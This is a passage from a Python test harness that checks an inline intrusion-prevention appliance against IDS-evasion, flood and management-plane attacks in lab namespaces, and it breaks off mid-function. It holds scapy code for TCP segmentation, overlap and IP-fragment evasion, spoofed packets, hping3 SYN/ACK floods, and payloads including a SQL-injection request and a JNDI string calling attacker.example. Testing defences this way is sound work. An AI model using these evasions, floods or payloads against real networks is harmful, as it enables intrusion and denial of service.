#!/usr/bin/env python3
"""Evasion, flood and management-plane tests of issue 16 with real Linux stacks (docs/evasion.md).

The appliance runs inline between two network namespaces (scripts/e2e_topology.py). The judge of
"delivered" is the server's own TCP/IP stack: a small server in `server` (this file, --judge)
records the bytes each accepted TCP connection delivered to the application and each UDP datagram
it received. The attacker in `client` (this file, --sender, scapy on se-tap0) crafts the segments
and fragments of Ptacek and Newsham ("Insertion, Evasion, and Denial of Service: Eluding Network
Intrusion Detection", 1998). A case passes when the server's application never received the
injection; its benign control (the same delivery method, a benign request) must be delivered, so
a case can fail in both directions.

    test_evasion.py KERNEL_ELF [--cases NAME,...] [--results FILE] [--secctl PATH] [--list]

Root only: exits 77 (meson's "skipped") otherwise. The default run is a slice (<= 4 minutes):
the TCP evasion cases, one fragment case, the blocked-port case, a 10 s SYN flood at one rate and
the management flood. SECENGINE_E2E_FULL=1 (`make e2e`) adds the other fragment cases and the
SYN and ACK floods at 2,500, 10,000 and 20,000 pps.
"""
import argparse
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

import e2e_common
from e2e_common import ROOT

CLIENT_IP, SERVER_IP, APPLIANCE_IP = '10.0.0.10', '10.0.0.20', '10.0.0.2'
HTTP_PORT, BLOCKED_PORT, OPEN_PORT, UDP_PORT, MGMT_PORT = 80, 2222, 2223, 9999, 7400
# Crafted connections use source ports from CRAFTED_PORTS: the client kernel's RSTs for them
# (it has no socket) are dropped by iptables in `client`, as an attacker's host would do.
CRAFTED_PORTS = (40000, 44999)
REAL_PORTS = 45000  # real client sockets (bind) for the spoofed-packet cases
BOOTARGS = 'ip=10.0.0.2/24'
HPING_OVERHEAD_US = 150

# The injection: rule 1001 ("union select" in http.uri, rules/builtin.rules) and the slot-6
# injection detector (docs/inject.md) both drop it when it is sent whole (checked first).
INJECT = 'GET /evasion-%s?cat=1%%20UNION%%20SELECT%%20username,password%%20FROM%%20users HTTP/1.1\r\nHost: 10.0.0.20\r\n\r\n'
INJECT_MARK = b'UNION%20SELECT'
# An HTTP injection is delivered when the server received it in a complete request line: an
# inline IPS decides on the segment that completes what its rule or detector needs (here the
# request line: http.uri exists once the line ends) and drops that segment and the rest of the
# connection; the bytes before it reach the host's TCP, but no HTTP server acts on a request line
# that never ends (Suricata inline behaves the same: docs/evasion.md "The judge").
REQUEST_LINE_END = b' HTTP/1.1\r\n'


def request_line_delivered(got):
    at = got.find(INJECT_MARK)
    return at >= 0 and REQUEST_LINE_END in got[at:]
BENIGN = 'GET /benign-%s?cat=1%%20UNIFORM%%20SHIRTS%%20for%%20staff,visitors%%20FROM%%20stock HTTP/1.1\r\nHost: 10.0.0.20\r\n\r\n'
# UDP: rule 4002 ("${jndi:" anywhere, flow:to_server).
UDP_INJECT = b'log line 0001 user=${jndi:ldap://attacker.example/a} end of record'
UDP_MARK = b'${jndi:'
UDP_BENIGN = b'log line 0001 user=$(plain-user-name-12345678) end of record......'

results = e2e_common.new_results(bootargs=BOOTARGS, cases=[], floods=[], mgmt={})
check = e2e_common.checker(results)  # check(..., required=False): reported (info), never fails the run


# =============================================================================================
# The judge (server namespace): what the server's application received.
# =============================================================================================
def judge_main(log_path):
    lock = threading.Lock()
    out = open(log_path, 'a')

    def record(**r):
        with lock:
            out.write(json.dumps(r) + '\n')
            out.flush()

    def serve_conn(conn, peer, lport):
        data = b''
        replied = False
        conn.settimeout(1.5)  # idle: a connection whose rest the appliance dropped ends here
        try:
            while True:
                try:
                    d = conn.recv(65536)
                except socket.timeout:
                    break
                if not d:
                    break
                data += d
                if not replied and b'\r\n\r\n' in data:
                    body = b'judge ok\n'
                    conn.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(body) + body)
                    replied = True
                    record(proto='tcp', lport=lport, peer=peer[0], pport=peer[1], data=data.decode('latin1'), final=False)
        except OSError:
            pass
        record(proto='tcp', lport=lport, peer=peer[0], pport=peer[1], data=data.decode('latin1'), final=True)
        try:
            conn.close()
        except OSError:
            pass

    def tcp_listener(port):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((SERVER_IP, port))
        s.listen(512)
        while True:
            c, peer = s.accept()
            threading.Thread(target=serve_conn, args=(c, peer, port), daemon=True).start()

    def udp_listener(port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((SERVER_IP, port))
        while True:
            d, peer = s.recvfrom(65536)
            record(proto='udp', lport=port, peer=peer[0], pport=peer[1], data=d.decode('latin1'), final=True)

    for p in (HTTP_PORT, BLOCKED_PORT, OPEN_PORT):
        threading.Thread(target=tcp_listener, args=(p,), daemon=True).start()
    threading.Thread(target=udp_listener, args=(UDP_PORT,), daemon=True).start()
    time.sleep(0.3)
    print('judge ready', flush=True)
    while True:
        time.sleep(3600)


class Judge:
    def __init__(self, topo, work):
        self.path = os.path.join(work, 'judge.jsonl')
        open(self.path, 'w').close()
        self.proc = topo.popen('server', sys.executable, '-u', os.path.abspath(__file__), '--judge', self.path,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        line = self.proc.stdout.readline()
        if 'judge ready' not in line:
            raise RuntimeError('judge did not start: %r' % line)

    def records(self):
        out = []
        for line in open(self.path):
            try:
                out.append(json.loads(line))
            except ValueError:
                pass
        return out

    def received(self, proto, lport, pport, wait=4.0, until=None):
        """Bytes the server's application got from (proto, lport, peer port): waits up to `wait`
        s for the connection's final record (or until `until` appears in the bytes)."""
        deadline = time.time() + wait
        while True:
            recs = [r for r in self.records() if r['proto'] == proto and r['lport'] == lport and r['pport'] == pport]
            data = max((r['data'] for r in recs), key=len, default='').encode('latin1')
            if proto == 'udp':
                data = b''.join(r['data'].encode('latin1') for r in recs)
            done = any(r['final'] for r in recs) and proto == 'tcp'
            if done or (until and until in data) or time.time() > deadline:
                return data
            time.sleep(0.1)


# =============================================================================================
# The sender (client namespace): scapy on se-tap0, one JSON command per line on stdin.
# =============================================================================================
def sender_main():
    from scapy.all import Ether, IP, TCP, UDP, Raw, conf, srp1  # noqa: F401 (scapy only here)
    conf.verb = 0
    iface = 'se-tap0'
    my_mac = open('/sys/class/net/%s/address' % iface).read().strip()
    l2 = conf.L2socket(iface=iface)
    srv_mac = None

    def eth():
        return Ether(src=my_mac, dst=srv_mac)

    def tcp_bytes(sport, dport, seq, ack, flags, payload=b'', bad_sum=False, src=CLIENT_IP, dst=SERVER_IP):
        p = IP(src=src, dst=dst, id=random.randrange(65536)) / TCP(sport=sport, dport=dport, seq=seq % 2**32, ack=ack % 2**32,
                                                                   flags=flags, window=65535)
        if payload:
            p = p / Raw(payload)
        p = IP(bytes(p))  # checksums computed
        if bad_sum:
            p[TCP].chksum ^= 0x5a5a
            p = IP(bytes(p))
        return p

    def send_ip(p, gap=0.02):
        l2.send(eth() / p)
        time.sleep(gap)

    def fragments(p, cut):
        """The IP packet p as two fragments: L4 bytes [0:cut] and [cut:] (cut % 8 == 0)."""
        raw = bytes(p)
        ihl = (raw[0] & 15) * 4
        l4 = raw[ihl:]
        ipid = random.randrange(1, 65536)
        f1 = IP(src=p.src, dst=p.dst, proto=p.proto, id=ipid, flags='MF', frag=0) / Raw(l4[:cut])
        f2 = IP(src=p.src, dst=p.dst, proto=p.proto, id=ipid, flags=0, frag=cut // 8) / Raw(l4[cut:])
        return f1, f2, l4

    def handshake(sport, dport):
        isn = random.randrange(2**32)
        syn = eth() / IP(src=CLIENT_IP, dst=SERVER_IP) / TCP(sport=sport, dport=dport, seq=isn, flags='S', window=65535)
        ans = srp1(syn, iface=iface, timeout=2)
        if ans is None or TCP not in ans or (int(ans[TCP].flags) & 0x12) != 0x12:
            return None
        seq, ack = isn + 1, ans[TCP].seq + 1
        send_ip(tcp_bytes(sport, dport, seq, ack, 'A'))
        return seq, ack

    def tcp_case(c):
        sport, dport, plan = c['sport'], c['dport'], c['plan']
        P = c['payload'].encode('latin1')
        k = c['cut']  # inside the signature: the split / fake byte sits here
        hs = handshake(sport, dport)
        if hs is None:
            return {'synack': False}
        s0, ack = hs
        sent = []

        def seg(off, data, **kw):
            send_ip(tcp_bytes(sport, dport, s0 + off, ack, 'PA', data, **kw))
            sent.append([off, len(data), kw.get('bad_sum', False)])

        if plan == 'whole':
            seg(0, P)
        elif plan == 'split2':  # two segments in order, cut inside the signature
            seg(0, P[:k])
            seg(k, P[k:])
        elif plan == 'bytewise':  # one byte per segment, from the first byte
            for i in range(len(P)):
                seg(i, P[i:i + 1])
        elif plan == 'retransmit':  # the completing byte comes in a retransmission of the 3 bytes before it
            seg(0, P[:k])
            seg(k - 3, P[k - 3:])
        elif plan == 'rewrite':  # an overlap whose old bytes differ: the host keeps the first copy
            seg(0, P[:k])
            seg(k - 3, b'XYZ' + P[k:])
        elif plan == 'ooo':  # two segments, the second first
            seg(k, P[k:])
            seg(0, P[:k])
        elif plan == 'badsum':  # a byte with a bad TCP checksum inserted where the real one goes
            seg(0, P[:k])
            seg(k, b'X', bad_sum=True)
            seg(k, P[k:])
        elif plan == 'ipfrag':  # the whole request in one segment, split over two IP fragments
            p = tcp_bytes(sport, dport, s0, ack, 'PA', P)
            cut = c['l4cut']
            f1, f2, _ = fragments(p, cut)
            send_ip(f1)
            send_ip(f2)
            sent.append(['ipfrag', cut])
        else:
            return {'error': 'unknown plan %s' % plan}
        if plan in ('ooo', 'rewrite'):
            # What the sender's TCP does after its RTO when an in-order-only normaliser dropped a
            # segment (docs/stream.md): one in-order retransmission of the whole request with the
            # bytes first sent. It lets the benign control through such a normaliser; the attack's
            # retransmission is then inspected in order and dropped.
            time.sleep(0.3)
            seg(0, P)
        time.sleep(c.get('linger', 1.0))
        # Reset our side so the server's socket ends now (the judge records it); L2, not iptables'd.
        send_ip(tcp_bytes(sport, dport, s0 + len(P), ack, 'R'), gap=0)
        return {'synack': True, 'segments': sent}

    def udp_case(c):
        sport, dport, plan = c['sport'], c['dport'], c['plan']
        P = c['payload'].encode('latin1')
        cut = c['l4cut']
        p = IP(bytes(IP(src=CLIENT_IP, dst=SERVER_IP, id=random.randrange(65536)) / UDP(sport=sport, dport=dport) / Raw(P)))
        if plan == 'whole':
            send_ip(p)
        elif plan == 'frag':  # the signature straddles the boundary
            f1, f2, _ = fragments(p, cut)
            send_ip(f1)
            send_ip(f2)
        elif plan == 'overlap':
            # RFC 5722 / RFC 1858 style: the first fragment carries a harmless copy of the bytes the
            # second one overlaps; a first-copy reassembler sees the harmless datagram, a last-copy
            # one the real one. The appliance must drop both.
            f1, f2, l4 = fragments(p, cut)
            harmless = l4[:cut - 8] + b'.' * 8
            ipid = f1.id
            g1 = IP(src=p.src, dst=p.dst, proto=17, id=ipid, flags='MF', frag=0) / Raw(harmless)
            g2 = IP(src=p.src, dst=p.dst, proto=17, id=ipid, flags=0, frag=(cut - 8) // 8) / Raw(l4[cut - 8:])
            send_ip(g1)
            send_ip(g2)
        return {'sent': plan}

    def spoof(c):
        # A server-to-client segment nobody sent (the server has no such connection), from the
        # attacker's side of the appliance.
        flags = c['flags']
        send_ip(tcp_bytes(c['dport'], c['sport'], random.randrange(2**32), random.randrange(2**32), flags,
                          src=SERVER_IP, dst=CLIENT_IP), gap=0.1)
        return {'spoofed': flags}

    def real_tcp(c):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((CLIENT_IP, c['sport']))
        s.settimeout(c.get('timeout', 3))
        out = {'connected': False, 'response': ''}
        try:
            s.connect((SERVER_IP, c['dport']))
            out['connected'] = True
            s.sendall(c['payload'].encode('latin1'))
            resp = b''
            while True:
                d = s.recv(4096)
                if not d:
                    break
                resp += d
            out['response'] = resp[:40].decode('latin1')
        except OSError as e:
            out['error'] = type(e).__name__
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))  # RST: no TIME_WAIT on the port
        s.close()
        return out

    ops = {'tcp': tcp_case, 'udp': udp_case, 'spoof': spoof, 'real_tcp': real_tcp}
    print(json.dumps({'ready': True}), flush=True)
    for line in sys.stdin:
        c = json.loads(line)
        if c['op'] == 'quit':
            break
        if c['op'] == 'server_mac':
            srv_mac = c['mac']
            r = {'ok': True}
        else:
            try:
                r = ops[c['op']](c)
            except Exception as e:  # reported to the test as the case's error
                r = {'error': '%s: %s' % (type(e).__name__, e)}
        print(json.dumps(r), flush=True)


def scapy_python():
    """A Python that imports scapy: this one, or Debian's (python3-scapy) when this one is
    another installation (pyenv, a venv)."""
    for py in (sys.executable, '/usr/bin/python3'):
        if os.path.exists(py) and subprocess.run([py, '-c', 'import scapy'], capture_output=True).returncode == 0:
            return py
    return None


class Sender:
    def __init__(self, topo, server_mac):
        self.proc = topo.popen('client', scapy_python(), '-u', os.path.abspath(__file__), '--sender',
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.lock = threading.Lock()
        first = self.proc.stdout.readline()
        if 'ready' not in first:
            raise RuntimeError('sender did not start: %r %s' % (first, self.proc.stderr.read()[-500:]))
        self.call(op='server_mac', mac=server_mac)

    def call(self, **c):
        with self.lock:
            self.proc.stdin.write(json.dumps(c) + '\n')
            self.proc.stdin.flush()
            line = self.proc.stdout.readline()
        if not line:
            raise RuntimeError('sender died: %s' % self.proc.stderr.read()[-500:])
        return json.loads(line)

    def close(self):
        try:
            self.proc.stdin.write(json.dumps({'op': 'quit'}) + '\n')
            self.proc.stdin.flush()
            self.proc.wait(5)
        except (OSError, subprocess.TimeoutExpired, BrokenPipeError):
            self.proc.kill()


# =============================================================================================
# The cases
# =============================================================================================
class Ports:
    def __init__(self):
        self.crafted = CRAFTED_PORTS[0] + random.randrange(0, 3000)
        self.real = REAL_PORTS + random.randrange(0, 10000)

    def next_crafted(self):
        self.crafted += 1
        return self.crafted

    def next_real(self):
        self.real += 1
        return self.real


def snippet(data, mark):
    """What the server received, as a short quote around the mark (or the start)."""
    i = data.find(mark)
    part = data[max(0, i - 12):i + 40] if i >= 0 else data[:52]
    return '%d bytes: %r' % (len(data), part.decode('latin1'))


def frag_cut(start, length):
    """A fragment boundary (a multiple of 8 bytes of the L4 part, RFC 791) strictly inside the
    signature that starts at L4 offset `start`."""
    cut = (start + 1 + 7) // 8 * 8
    assert start < cut < start + length, (start, length, cut)
    return cut


def run_tcp_plan(env, name, plan, attack, linger=1.0):
    payload = (INJECT if attack else BENIGN) % name
    mark = INJECT_MARK if attack else payload.encode()
    cut = payload.index('SELECT' if attack else 'SHIRTS') + 3
    sport = env.ports.next_crafted()
    l4cut = frag_cut(20 + payload.index('UNION' if attack else 'UNIFORM'), len(INJECT_MARK))
    r = env.sender.call(op='tcp', sport=sport, dport=HTTP_PORT, plan=plan, payload=payload, cut=cut, l4cut=l4cut, linger=linger)
    if not attack:
        got = env.judge.received('tcp', HTTP_PORT, sport, until=mark)
        return mark in got, got, mark, r
    got = env.judge.received('tcp', HTTP_PORT, sport, until=REQUEST_LINE_END)
    return request_line_delivered(got), got, mark, r


def run_udp_plan(env, name, plan, attack):
    payload = UDP_INJECT if attack else UDP_BENIGN
    mark = UDP_MARK if attack else payload
    l4cut = frag_cut(8 + payload.index(b'${' if attack else b'$('), len(UDP_MARK))
    sport = env.ports.next_crafted()
    r = env.sender.call(op='udp', sport=sport, dport=UDP_PORT, plan=plan, payload=payload.decode('latin1'), l4cut=l4cut)
    got = env.judge.received('udp', UDP_PORT, sport, wait=2.0, until=mark)
    return mark in got, got, mark, r


def run_spoofed(env, name, flags, dport, attack):
    payload = (INJECT if attack else BENIGN) % name
    mark = INJECT_MARK if attack else payload.encode()
    sport = env.ports.next_real()
    env.sender.call(op='spoof', sport=sport, dport=dport, flags=flags)
    r = env.sender.call(op='real_tcp', sport=sport, dport=dport, payload=payload)
    got = env.judge.received('tcp', dport, sport, until=mark)
    return mark in got, got, mark, r


def case_pair(env, phase, name, what, runner, control_required=True, attack_label='injection not delivered'):
    """Runs the attack and its benign control; records both checks and a table row."""
    t0 = time.time()
    a_del, a_got, a_mark, a_r = runner(True)
    b_del, b_got, b_mark, b_r = runner(False)
    row = {'case': name, 'what': what, 'attack_delivered': a_del, 'control_delivered': b_del,
           'attack_server_got': snippet(a_got, a_mark), 'control_server_got': snippet(b_got, b_mark),
           'sender': a_r, 'seconds': round(time.time() - t0, 1)}
    results['cases'].append(row)
    check(phase, '%s: %s (%s)' % (name, attack_label, what), not a_del,
          **({'server_received': snippet(a_got, a_mark)} if a_del else {}))
    check(phase, '%s: benign control delivered' % name, b_del, required=control_required,
          **({} if b_del else {'server_received': snippet(b_got, b_mark), 'sender': b_r}))
    return row


def tcp_case(plan, what, control_required=True):
    return lambda env, name: case_pair(env, 'evasion', name, what, lambda atk: run_tcp_plan(env, name, plan, atk),
                                       control_required=control_required)


def udp_case(plan, what):
    # Fragment controls (here and tcp_ipfrag) are reported, not required: "reassemble or drop by
    # policy" (issue 16); a kernel that drops every fragment delivers no fragmented benign request.
    return lambda env, name: case_pair(env, 'evasion', name, what, lambda atk: run_udp_plan(env, name, plan, atk),
                                       control_required=False)


def case_baseline(env, name):
    """The appliance drops the injection sent whole (curl and one crafted segment) - otherwise
    none of the evasion cases means anything - and serves the benign request."""
    curl = env.topo.client('curl', '-s', '--max-time', '3', '-o', '/dev/null', '-w', '%{http_code}', '--local-port', str(env.ports.next_real()),
                           'http://10.0.0.20/evasion-curl?cat=1%20UNION%20SELECT%20username,password%20FROM%20users')
    seen = any('evasion-curl' in r['data'] for r in env.judge.records())
    check('baseline', 'curl with the injection is not delivered', not seen, curl_rc=curl.returncode, http_code=curl.stdout)
    ok = env.topo.client('curl', '-s', '--max-time', '5', '-o', '/dev/null', '-w', '%{http_code}', 'http://10.0.0.20/benign-curl')
    check('baseline', 'curl with a benign request is answered', ok.stdout == '200', http_code=ok.stdout)
    case_pair(env, 'baseline', name, 'the request in one crafted segment', lambda atk: run_tcp_plan(env, name, 'whole', atk))


def case_spoof(flags, what):
    return lambda env, name: case_pair(env, 'evasion', name, what, lambda atk: run_spoofed(env, name, flags, HTTP_PORT, atk))


def case_blocked_port(env, name):
    base = [env.secctl, '--appliance', '%s:%d' % (APPLIANCE_IP, MGMT_PORT), '--timeout', '1000']
    r = env.topo.client(*base, 'block', 'tcp', str(BLOCKED_PORT), 'in')
    check('blocked', 'secctl block tcp %d in' % BLOCKED_PORT, r.returncode == 0, out=(r.stdout + r.stderr).strip()[-120:])
    plain = env.sender.call(op='real_tcp', sport=env.ports.next_real(), dport=BLOCKED_PORT, payload=BENIGN % 'blocked-plain', timeout=2)
    got = any('blocked-plain' in x['data'] for x in env.judge.records())
    check('blocked', 'a plain connection to the blocked port is refused', not plain['connected'] and not got, client=plain)

    def runner(attack):
        port = BLOCKED_PORT if attack else OPEN_PORT
        sport = env.ports.next_real()
        env.sender.call(op='spoof', sport=sport, dport=port, flags='A')
        payload = BENIGN % ('blocked-%s' % ('attack' if attack else 'control'))
        r = env.sender.call(op='real_tcp', sport=sport, dport=port, payload=payload, timeout=2)
        got = env.judge.received('tcp', port, sport, wait=3.0, until=payload.encode())
        return payload.encode() in got, got, payload.encode(), r
    case_pair(env, 'blocked', name, 'one spoofed server-to-client ACK, then a connection to tcp %d (control: tcp %d, not blocked)'
              % (BLOCKED_PORT, OPEN_PORT), runner, attack_label='blocked port not reached')


CASES = [
    # (name, in the default slice, function)
    ('baseline', True, case_baseline),
    # Not an issue-16 case: the reference for the floods' two-segment injection (test_e2e.py's
    # `split` phase sends the same through the client's own stack).
    ('split2', True, tcp_case('split2', 'two segments in order, cut inside the signature')),
    ('bytewise', True, tcp_case('bytewise', 'one byte per TCP segment from the first byte')),
    ('retransmit', True, tcp_case('retransmit', 'the completing byte in a retransmission of the 3 bytes before it')),
    ('ooo', True, tcp_case('ooo', 'two segments out of order')),
    ('rewrite', True, tcp_case('rewrite', 'an overlapping segment that rewrites 3 bytes')),
    ('badsum', True, tcp_case('badsum', 'an inserted byte with a bad TCP checksum')),
    ('spoof_ack', True, case_spoof('A', 'after a spoofed server-to-client ACK')),
    ('spoof_rst', True, case_spoof('R', 'after a spoofed server-to-client RST')),
    ('udp_frag', True, udp_case('frag', 'a UDP datagram whose signature straddles an IP fragment boundary')),
    ('udp_overlap', False, udp_case('overlap', 'overlapping IP fragments (8 bytes rewritten)')),
    ('tcp_ipfrag', False, tcp_case('ipfrag', 'a TCP request split over two IP fragments', control_required=False)),
    ('blocked_port', True, case_blocked_port),
]


# =============================================================================================
# Floods and the management plane
# =============================================================================================
def tap_counters(topo):
    out = {}
    for k in ('tx_packets', 'tx_dropped'):
        r = topo.client('cat', '/sys/class/net/se-tap0/statistics/%s' % k)
        out[k] = int(r.stdout.strip() or 0)
    return out


def benign_loop(topo, stop, out, label):
    """curl requests from the benign client until `stop` is set; out[label] = [answered, tried]."""
    answered = tried = 0
    while not stop.is_set():
        tried += 1
        r = topo.client('curl', '-s', '--max-time', '2', '-o', '/dev/null', '-w', '%{http_code}', 'http://10.0.0.20/benign-flood-%s-%d' % (label, tried))
        answered += r.stdout == '200'
        time.sleep(0.1)
    out[label] = [answered, tried]


def measure(topo, seconds, label, out):
    stop = threading.Event()
    t = threading.Thread(target=benign_loop, args=(topo, stop, out, label))
    t.start()
    time.sleep(seconds)
    stop.set()
    t.join()


def flood(env, kind, pps, seconds):
    """hping3 --rand-source (SYN or ACK) at `pps` while the benign client makes requests; an
    injection on a new connection (whole, in two segments, out of order) during the flood."""
    topo = env.topo
    name = '%s flood %d pps' % (kind, pps)
    share = {}
    measure(topo, 3, 'before', share)
    # hping3 -i uN sleeps N us between packets plus its own time per packet, which depends on the
    # machine's load (seen: 40-150 us), so a 1 s calibration run measures it first; rates above
    # ~4,000 pps run several hping3 side by side. The rate reported is what left se-tap0 (its tx
    # counter) while the flood ran, beside the target.
    procs = -(-pps // 4000)
    flag = '-S' if kind == 'SYN' else '-A'

    def run_hping(interval_us, secs):
        return [topo.popen('client', 'timeout', '-s', 'INT', str(secs), 'hping3', flag, '--rand-source', '-p', '80', '-i', 'u%d' % interval_us,
                           SERVER_IP, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(procs)]
    first = max(1, int(procs * 1e6 / pps) - HPING_OVERHEAD_US)
    k0, tk = tap_counters(topo)['tx_packets'], time.time()
    for hp in run_hping(first, 1):
        hp.wait()
    cal_pps = (tap_counters(topo)['tx_packets'] - k0) / max(0.1, time.time() - tk)
    overhead = max(0.0, procs * 1e6 / max(1.0, cal_pps) - first)
    # At most half the nominal interval is taken off: a calibration on a busy machine (or with
    # QEMU already saturated) would otherwise ask for -i u1, and hping3 then offers many times
    # the target rate (seen: 80,000 pps for 20,000), which measures QEMU's tap queue, not the kernel.
    nominal = procs * 1e6 / pps
    interval = max(int(nominal / 2), int(nominal - overhead))
    time.sleep(1.0)  # the calibration's half-open flows are part of the flood's table anyway
    c0, st0, t0 = tap_counters(topo), topo.qemu.stats(), time.time()
    hps = run_hping(interval, seconds)
    stop = threading.Event()
    bt = threading.Thread(target=benign_loop, args=(topo, stop, share, 'during'))
    time.sleep(min(1.5, seconds / 4))  # the table fills first
    bt.start()
    ev = []

    def evasions():
        for plan in ('whole', 'split2', 'ooo'):
            d, got, mark, _ = run_tcp_plan(env, 'flood-%s-%d-%s' % (kind.lower(), pps, plan), plan, True, linger=0.3)
            ev.append((plan, d, snippet(got, mark), round(time.time() - t0, 1)))
    et = threading.Thread(target=evasions)
    et.start()
    for hp in hps:
        hp.wait()
    t1 = time.time()
    c1, st1 = tap_counters(topo), topo.qemu.stats()
    stop.set()
    bt.join()
    et.join()
    sent = c1['tx_packets'] - c0['tx_packets']
    measure(topo, 3, 'after', share)
    row = {'flood': name, 'kind': kind, 'target_pps': pps, 'seconds': round(t1 - t0, 1), 'hping3': '%d x -i u%d' % (procs, interval),
           'calibration_pps': round(cal_pps), 'hping3_overhead_us': round(overhead),
           'tap_tx_packets': sent, 'tap_tx_dropped': c1['tx_dropped'] - c0['tx_dropped'],
           'measured_pps': round(sent / max(0.1, t1 - t0)),
           'offered_pps': round((sent + c1['tx_dropped'] - c0['tx_dropped']) / max(0.1, t1 - t0)), 'kernel_rx': st1.get('rx', 0) - st0.get('rx', 0),
           'kernel_rx_pps': round((st1.get('rx', 0) - st0.get('rx', 0)) / max(0.1, t1 - t0)),
           'benign': {k: {'answered': v[0], 'tried': v[1], 'share': round(v[0] / v[1], 3) if v[1] else None} for k, v in share.items()},
           'evasion': [{'plan': p, 'delivered': d, 'server_got': s, 'sent_by_s': t} for p, d, s, t in ev]}
    results['floods'].append(row)
    print('info [flood] %s: on the tap %d frames in %.1f s = %d pps (tx_dropped %d), kernel rx %d pps' % (
        name, sent, t1 - t0, row['measured_pps'], row['tap_tx_dropped'], row['kernel_rx_pps']), flush=True)
    for k in ('before', 'during', 'after'):
        a, n = share.get(k, [0, 0])
        target = 0.9 if k == 'during' else 1.0
        check('flood', '%s: benign requests answered %s the flood >= %d%%' % (name, k, target * 100), n > 0 and a >= target * n,
              answered=a, tried=n)
    for p, d, s, t in ev:
        # `t`: seconds after the flood's start when the case's last segment had gone (a case that
        # ends after the flood is still reported; the flow table is still full then).
        check('flood', '%s: injection (%s) on a new connection not delivered' % (name, p), not d, done_at_s=t,
              **({'server_received': s} if d else {}))


def mgmt_flood_main(seconds, pps, dst_mac, sources):
    """`pps` unauthenticated datagrams/s at UDP 7400 from random spoofed sources (10.0.0.100-249)
    or one (10.0.0.66): half spoofed version-2 headers, half random bytes (AF_PACKET frames on
    se-tap0, so no socket of the client's stack is involved)."""
    iface = 'se-tap0'
    src_mac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
    dmac = bytes.fromhex(dst_mac.replace(':', ''))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))

    def csum(d):
        if len(d) % 2:
            d += b'\0'
        v = sum(struct.unpack('!%dH' % (len(d) // 2), d))
        v = (v & 0xffff) + (v >> 16)
        v += v >> 16
        return ~v & 0xffff
    rng = random.Random(7400)
    sent, t0 = 0, time.time()
    while time.time() - t0 < seconds:
        due = int((time.time() - t0) * pps)
        while sent < due:
            src = bytes([10, 0, 0, rng.randrange(100, 250) if sources == 'random' else 66])
            if sent % 2 == 0:  # magic 'S''E', version 2, the rest random (24-byte header + 8-byte tag + body)
                body = b'SE\x02' + bytes(rng.getrandbits(8) for _ in range(45))
            else:
                body = bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 120)))
            udp = struct.pack('!HHHH', rng.randrange(1024, 65536), MGMT_PORT, 8 + len(body), 0) + body
            ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), rng.randrange(65536), 0, 64, 17, 0, src, socket.inet_aton(APPLIANCE_IP))
            ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
            s.send(dmac + src_mac + b'\x08\x00' + ip + udp)
            sent += 1
        time.sleep(0.002)
    print(sent, round(time.time() - t0, 2), flush=True)


def secctl_pings(env, n, gap=0.0):
    """`n` fresh secctl processes (new channel state each), `gap` s apart; how many succeed."""
    ok = 0
    for _ in range(n):
        r = env.topo.client(env.secctl, '--appliance', '%s:%d' % (APPLIANCE_IP, MGMT_PORT), '--timeout', '1000', 'ping', timeout=30)
        ok += r.returncode == 0
        time.sleep(gap)
    return ok


TELEMETRY_MESSAGES, TELEMETRY_MS = 20, 250


class Subscriber(threading.Thread):
    """An existing telemetry subscriber: `secctl stats` on its own channel (3) at 250 ms, which
    exits after TELEMETRY_MESSAGES stats messages; `rate` is messages per second over its life
    (subscribe included), None when it failed."""
    def __init__(self, env):
        super().__init__(daemon=True)
        self.env, self.rate, self.seconds, self.rc = env, None, None, None

    def run(self):
        t0 = time.time()
        r = self.env.topo.client(self.env.secctl, '--appliance', '%s:%d' % (APPLIANCE_IP, MGMT_PORT), '--channel', '3',
                                 '--interval', str(TELEMETRY_MS), '--count', str(TELEMETRY_MESSAGES), '--seconds', '30',
                                 'stats', '--json', timeout=60)
        self.seconds, self.rc = round(time.time() - t0, 2), r.returncode
        if r.returncode == 0:
            self.rate = round(TELEMETRY_MESSAGES / self.seconds, 2)


def case_mgmt(env, name, pps=1000):
    """10 fresh `secctl ping` before, and during 1,000 unauthenticated datagrams/s from random
    spoofed sources and from one source (the flood address 10.0.0.66); beside them a telemetry
    subscriber (20 stats messages at 250 ms) whose rate during each flood must stay >= 90 % of
    its rate without one."""
    sub = Subscriber(env)
    sub.start()
    before = secctl_pings(env, 10)
    sub.join(60)
    check('mgmt', '10 fresh secctl ping without a flood succeed', before == 10, succeeded=before)
    check('mgmt', 'telemetry subscriber without a flood: %d stats messages at %d ms' % (TELEMETRY_MESSAGES, TELEMETRY_MS),
          sub.rate is not None, rate_per_s=sub.rate, seconds=sub.seconds, rc=sub.rc)
    rate_before = sub.rate
    neigh = env.topo.client('ip', 'neigh', 'show', APPLIANCE_IP).stdout.split()
    mac = neigh[neigh.index('lladdr') + 1] if 'lladdr' in neigh else 'ff:ff:ff:ff:ff:ff'
    results['mgmt'] = {'pings_before': before, 'telemetry_rate_before': rate_before, 'floods': []}
    for sources in ('random', 'single'):
        seconds = 8
        fl = env.topo.popen('client', sys.executable, '-u', os.path.abspath(__file__), '--mgmt-flood', str(seconds), str(pps), mac, sources,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        time.sleep(0.5)
        sub = Subscriber(env)  # subscribed as the flood runs: 20 messages = ~5 s, inside the 8 s flood
        sub.start()
        time.sleep(0.5)
        st0 = env.topo.qemu.stats()
        t0 = time.time()
        during = secctl_pings(env, 10, gap=0.5)  # spread over ~6 s of the flood, not one limiter window
        t1 = time.time()
